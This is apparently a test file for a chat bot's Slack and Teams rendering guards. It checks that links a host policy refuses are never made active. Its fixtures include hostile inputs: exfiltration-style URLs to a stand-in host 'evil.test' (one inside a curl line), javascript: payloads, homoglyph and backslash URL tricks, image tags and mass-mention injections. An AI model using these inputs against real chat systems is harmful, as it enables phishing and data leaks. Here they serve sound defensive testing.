"""Nothing that the policy refuses is active in what the platforms are sent, however it is cut."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bots.slack.rendering.blocks import text_and_blocks
from bots.slack.rendering.guard import guarded as slack_guarded
from bots.slack.rendering.mrkdwn import MrkdwnSurface
from bots.teams.rendering.guard import beginning, guarded, guarded_card
from bots.teams.rendering.markup import render
from bots.teams.rendering.surface import TeamsSurface
from core.streaming.markdown.links import NOBODY, Policy
from core.streaming.rendering import shown_parts
from core.values.answer import Rendered
from tests.support.hostile_texts import text_of
from tests.support.platform_links import (
    POLICY,
    Tight,
    card_active,
    faults,
    slack_active,
    teams_active,
)

EVIL = "https://evil.test/?d=K"
LONG = "sales rose by four percent in March " * 400


@given(st.integers(0, 2**48))
@settings(max_examples=1200, deadline=None, derandomize=True)
def test_no_text_makes_anything_active_that_the_policy_refuses(seed):
    # three texts each: the whole one and two beginnings, for Slack, Teams and a card of Teams
    assert faults(text_of(random.Random(seed)), random.Random(seed)) == []


@pytest.mark.parametrize(
    "text",
    [
        f"\\https://x[report]({EVIL})",
        f"\t```\n[report]({EVIL})\n\t```\n[report]({EVIL})",
        f"-\t```\n\tx\n\t```\n\t[report]({EVIL})\n",
        f"`{LONG} [report]({EVIL}) {LONG}`",
        f"| a | b |\n|---|---|\n| x | `{LONG} [report]({EVIL}) {LONG}` |",
        f"- `{LONG} [report]({EVIL}) {LONG}`",
        f"> `{LONG} [report]({EVIL}) {LONG}`",
        "https:/\\evil.test/K http:\\\\evil.test/K https:\\/\\/evil.test/K",
        "[a](https:/\\evil.test/K) [a](http:\\\\evil.test/K) [a](https:\\/\\/evil.test/K)",
        "[a](//evil.test/K) [a](https://docs.example.com\\@evil.test/) [a](JAVASCRIPT:alert(1))",
        "<!channel> <@U1> <at>Ana</at> &lt;!here&gt; `<!here>` `<at>Ana</at>`",
    ],
)
@pytest.mark.parametrize("room", [300, 3000])
def test_ways_that_once_led_out_are_closed(text, room):
    for surface in (MrkdwnSurface(), TeamsSurface()):
        parts = shown_parts(text, POLICY, Tight(surface, room), final=True)
        assert all(surface.size(part) <= room for part in parts)
        for part in parts:
            assert teams_active(render(part)) == []
            for block in text_and_blocks(Rendered(part))["blocks"]:
                assert slack_active(block["text"]["text"]) == []


def test_code_that_is_cut_over_messages_shows_its_addresses_as_code():
    text = f"`{LONG} {EVIL} {LONG}`"
    shown = [render(part) for part in shown_parts(text, NOBODY, TeamsSurface(), final=True)]
    assert f"`{EVIL}`" in "".join(shown)


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://docs.example.com/x", True),
        ("https://DOCS.example.com/x", True),
        ("http://docs.example.com/x", False),
        ("https://docs.example.com@evil.test/", False),
        ("https://docs.example.com\\@evil.test/", False),
        ("https://docs.example.com\u3002evil.test/", False),
        ("https://d\u043ecs.example.com/x", False),
        ("https://evil.test\uff0f.docs.example.com/", False),
        ("https://docs.example.com/\u202egpj", False),
        ("https://docs.example.com/a\tb", False),
        ("//docs.example.com/x", False),
        ("https:/\\docs.example.com/x", False),
        ("javascript://docs.example.com/%0aalert(1)", False),
    ],
)
def test_a_policy_allows_hosts_over_https_and_nothing_that_browsers_read_otherwise(url, allowed):
    assert Policy(hosts=frozenset({"docs.example.com"})).allows(url) is allowed


def test_cells_without_a_column_stay_with_the_last():
    text = "| a | b |\n|---|---|\n| 1 | 2 | 3 |"
    (part,) = shown_parts(text, NOBODY, MrkdwnSurface(), final=True)
    assert "2 | 3" in str(text_and_blocks(Rendered(part))["blocks"])


def test_the_code_of_a_makefile_keeps_its_tabs():
    text = "```make\nall:\n\tcc -o x x.c\n```"
    assert shown_parts(text, NOBODY, MrkdwnSurface(), final=True) == (text,)


# the guards alone: whatever a renderer may one day write

GOOD = "https://docs.example.com/a?x=1&y=2"


def test_slack_acts_on_nothing_but_the_links_it_is_allowed():
    text = f"<{GOOD.replace('&', '&amp;')}|docs> <{EVIL}|r> <!here> `<@U1>` {EVIL} `{EVIL}` <"
    known = frozenset({GOOD.replace("&", "&amp;")})
    shown = slack_guarded(text, known)
    assert slack_active(shown) == [GOOD]
    assert f"`{EVIL}`" in shown
    assert slack_guarded(shown, known) == shown


@pytest.mark.parametrize(
    "text",
    [
        f"[r]({EVIL})",
        f"![r]({GOOD})",
        f"[r]: {EVIL}\n\n[r]",
        f'<a href="{EVIL}">r</a>',
        f"<{EVIL}>",
        f"`x {EVIL}",
        "`<at>Ana</at>`",
        "r\n<img src=x>",
    ],
)
def test_teams_is_sent_characters_where_a_text_would_do_more(text):
    shown = guarded(text, [GOOD])
    assert teams_active(shown) == []
    assert teams_active(guarded(f"[docs]({GOOD})", [GOOD])) == [GOOD]


def test_a_card_is_safe_whether_or_not_its_client_knows_code():
    text = f"[docs]({GOOD}) `[r]({EVIL})` ![p]({GOOD}) {{{{DATE(x)}}}} <at>Ana</at> [r]: {EVIL}"
    shown = guarded_card(text, [GOOD])
    assert card_active(shown) == [GOOD]
    assert shown.replace("\u200b", "") == text


def test_a_stream_shows_code_with_an_address_once_it_is_closed():
    assert beginning(f"It is `a` and\n\n`curl {EVIL}`", []) == "It is `a` and"
    whole = f"It is `a` and\n\n`curl {EVIL}`. Then"
    assert beginning(whole, []) == whole


def test_a_rule_below_a_table_leaves_its_last_row_whole():
    text = "| a | b |\n|---|---|\n| 1 | 2 | 3 |\n---"
    (part,) = shown_parts(text, NOBODY, MrkdwnSurface(), final=True)
    assert "2 | 3" in str(text_and_blocks(Rendered(part))["blocks"])
